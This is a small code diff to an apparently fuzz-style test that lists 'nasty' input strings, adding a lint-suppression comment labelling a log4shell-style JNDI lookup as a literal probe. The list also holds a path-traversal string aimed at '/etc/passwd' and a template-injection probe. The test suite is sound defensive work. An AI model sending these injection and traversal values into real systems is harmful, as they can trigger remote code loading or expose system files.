@@ -50,6 +50,7 @@ const nasty = fc.constantFrom(
   'ÅÍÎÏ˝ÓÔÒÚÆ☃',
   '\u202e',
   '../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style probe, meant literally.
   '${jndi:ldap://x}',
   '{{7*7}}',
 );
